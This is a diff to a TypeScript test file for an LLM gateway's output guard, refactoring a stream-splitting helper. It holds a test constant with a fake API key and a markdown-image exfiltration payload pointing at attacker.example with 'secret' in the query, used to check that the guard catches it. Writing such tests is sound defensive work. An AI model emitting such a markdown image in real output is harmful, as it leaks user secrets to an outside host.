@@ -2,24 +2,19 @@ import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createSseParser } from '../streaming/sse-parser.js';
 import { type MockUpstream, startMockUpstream } from '../test-support/mock-upstream.js';
+import { splitAt } from '../test-support/split-at.js';
 import { startTestGateway, type TestGateway } from '../test-support/start-test-gateway.js';
 
 // Models answer in more members than `content`: refusals, reasoning (`reasoning_content` or `reasoning`
 // on OpenAI-compatible servers, Anthropic `thinking` blocks), the deprecated `function_call`, content
 // parts. The caller receives all of them, so the output guard checks and restores all of them.
+/** Non-empty pieces (an empty streamed delta would be skipped by the transformer anyway). */
+function split(text: string, cuts: readonly number[]): string[] {
+  return splitAt(text, cuts).filter((piece) => piece.length > 0);
+}
+
 const KEY = `sk-${'Pl7Ok8Ij9U'.repeat(3)}`;
 const EXFIL = '![x](https://attacker.example/p.png?d=secret)';
-
-function split(text: string, cuts: readonly number[]): string[] {
-  const points = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
-  const pieces: string[] = [];
-  let previous = 0;
-  for (const point of [...points, text.length]) {
-    pieces.push(text.slice(previous, point));
-    previous = point;
-  }
-  return pieces.filter((piece) => piece.length > 0);
-}
 
 function chatChunk(delta: Record<string, unknown>, finish: string | null = null): string {
   const choice = { index: 0, delta, finish_reason: finish };
